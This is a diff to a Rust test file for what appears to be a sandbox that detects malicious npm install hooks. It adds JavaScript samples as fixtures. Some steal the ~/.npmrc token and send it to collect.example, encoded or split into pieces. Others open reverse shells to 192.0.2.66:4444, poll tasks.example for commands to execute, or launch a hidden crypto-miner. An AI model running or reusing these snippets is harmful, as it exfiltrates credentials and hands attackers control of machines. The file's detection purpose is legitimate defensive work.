@@ -106,13 +106,15 @@ process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = '0';
 "#;
     let (traces, facts) = all(&hook(source));
     let chains = proven(&facts);
-    for chain in ["FLO-03", "FLO-06", "ANT-03"] {
+    for chain in ["FLO-06", "ANT-03"] {
         assert!(
             chains.contains(&chain),
             "{chain}: {facts:#?}\n{:#?}",
             traces[0].events
         );
     }
+    // A program that is written and started is told as one, and not as code besides.
+    assert!(!chains.contains(&"FLO-03"), "{chains:?}");
     assert_eq!(fact(&facts, "FLO-06").host.as_deref(), Some("stage.example"));
     assert!(traces[0].events.iter().any(|event| matches!(
         &event.action,
@@ -352,4 +354,158 @@ fn two_rehearsals_tell_the_same_story() {
     let input =
         hook("console.log(require('crypto').randomBytes(8).toString('hex'), Date.now(), Math.random() < 2)");
     assert_eq!(linux(&input), linux(&input));
+}
+
+#[test]
+fn further_disguises_and_layers_of_them_are_taken_off() {
+    let send = |expression: &str| {
+        format!(
+            "const fs = require('fs'), os = require('os'), zlib = require('zlib');\n\
+             const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n\
+             const b64 = (data) => Buffer.from(data).toString('base64');\n\
+             {expression}"
+        )
+    };
+    let post = |body: &str| {
+        send(&format!(
+            "fetch('https://collect.example/', {{ method: 'POST', body: {body} }});"
+        ))
+    };
+    for (source, disguise) in [
+        (
+            send("fetch('https://collect.example/?q=' + encodeURIComponent(rc));"),
+            Disguise::Plain,
+        ),
+        (
+            post("Array.from(Buffer.from(rc), (byte) => '%' + byte.toString(16).padStart(2, '0')).join('')"),
+            Disguise::Url,
+        ),
+        (post("b64(b64(rc))"), Disguise::Base64),
+        (post("b64(zlib.deflateSync(rc))"), Disguise::Compressed),
+        (post("b64(rc.split('').reverse().join(''))"), Disguise::Reversed),
+        (
+            post(
+                "Buffer.from(Buffer.from(rc).map((byte, at) => byte ^ 'key7'.charCodeAt(at % 4))).toString('base64')",
+            ),
+            Disguise::Xor,
+        ),
+        (
+            send(
+                "for (let at = 0; at < rc.length; at += 24) fetch('https://collect.example/' + at, { method: 'POST', body: rc.slice(at, at + 24) });",
+            ),
+            Disguise::Split,
+        ),
+        (
+            send(
+                "rc.match(/[^]{1,20}/g).forEach((part) => fetch('https://collect.example/', { method: 'POST', body: Buffer.from(part).toString('hex') }));",
+            ),
+            Disguise::Split,
+        ),
+    ] {
+        let (traces, facts) = all(&hook(&source));
+        assert!(
+            proven(&facts).contains(&"FLO-01"),
+            "{source}: {facts:#?} {:#?}",
+            traces[0].events
+        );
+        let theft = fact(&facts, "FLO-01");
+        assert!(
+            theft.canaries.iter().any(|canary| canary.name == "npm token"
+                && (canary.disguises.contains(&disguise) || disguise == Disguise::Plain)),
+            "{source}: {:?}",
+            theft.canaries
+        );
+    }
+}
+
+#[test]
+fn a_shell_wired_to_a_socket_is_named_so() {
+    let node = "const net = require('net'), cp = require('child_process');\n\
+         const sh = cp.spawn('/bin/sh', []);\n\
+         const socket = new net.Socket();\n\
+         socket.connect(4444, '192.0.2.66', () => { socket.pipe(sh.stdin); sh.stdout.pipe(socket); sh.stderr.pipe(socket); });";
+    let (traces, facts) = all(&hook(node));
+    assert!(
+        proven(&facts).contains(&"FLO-07"),
+        "{facts:#?} {:#?}",
+        traces[0].events
+    );
+    assert_eq!(fact(&facts, "FLO-07").host.as_deref(), Some("192.0.2.66"));
+    let (traces, facts) = all(&hook(
+        "require('child_process').exec(\"bash -c 'bash -i >& /dev/tcp/192.0.2.66/4444 0>&1'\")",
+    ));
+    assert!(
+        proven(&facts).contains(&"FLO-07"),
+        "{facts:#?} {:#?}",
+        traces[0].events
+    );
+}
+
+#[test]
+fn tasks_fetched_again_and_again_are_told_apart_from_one_download() {
+    let (traces, facts) = all(&hook(
+        "setInterval(async () => {\n\
+           const answer = await fetch('https://tasks.example/next');\n\
+           require('child_process').exec((await answer.text()).trim());\n\
+         }, 5000);",
+    ));
+    assert!(
+        proven(&facts).contains(&"FLO-15"),
+        "{facts:#?} {:#?}",
+        traces[0].events
+    );
+    let (_, facts) = all(&hook(
+        "fetch('https://files.example/setup.sh').then((answer) => answer.text()).then((text) => require('child_process').exec(text));",
+    ));
+    assert!(!proven(&facts).contains(&"FLO-15"), "{facts:#?}");
+    assert!(proven(&facts).contains(&"FLO-03"), "{facts:#?}");
+}
+
+#[test]
+fn a_miner_shows_itself_by_its_pool() {
+    let (traces, facts) = all(&hook(
+        "const cp = require('child_process');\n\
+         cp.spawn('/tmp/.cache/kworker', ['-o', 'stratum+tcp://pool.example:3333', '--donate-level', '1'], { detached: true, stdio: 'ignore' }).unref();",
+    ));
+    assert_eq!(
+        fact(&facts, "FLO-13").host.as_deref(),
+        Some("pool.example"),
+        "{:#?}",
+        traces[0].events
+    );
+}
+
+#[test]
+fn one_further_machine_is_tried_where_only_one_is_asked_about() {
+    let machines = |source: &str| -> Vec<&'static str> {
+        let (traces, _) = all(&hook(source));
+        traces.iter().map(|trace| trace.persona.as_str()).collect()
+    };
+    assert_eq!(
+        machines("if (process.platform === 'linux') return;"),
+        ["linux-developer", "windows-developer"]
+    );
+    assert_eq!(
+        machines("if (process.platform === 'darwin') console.log('mac');"),
+        ["linux-developer", "mac-developer"]
+    );
+    assert_eq!(machines("console.log('hello');"), ["linux-developer"]);
+    assert_eq!(
+        machines("if (process.platform === 'win32') {} fetch('https://files.example/');"),
+        ["linux-developer"]
+    );
+}
+
+#[test]
+fn wrappers_of_streams_and_of_the_console_load() {
+    let trace = linux(&library(
+        "const fs = require('fs');\n\
+         for (const name of ['ReadStream', 'WriteStream']) { const made = Object.create(fs[name].prototype); if (typeof made.pipe !== 'function') throw name; }\n\
+         require('node:console').log('wrapped', typeof process.umask(), process.hrtime().length);",
+    ));
+    assert!(
+        printed(&trace).contains("wrapped number 2"),
+        "{}",
+        printed(&trace)
+    );
 }
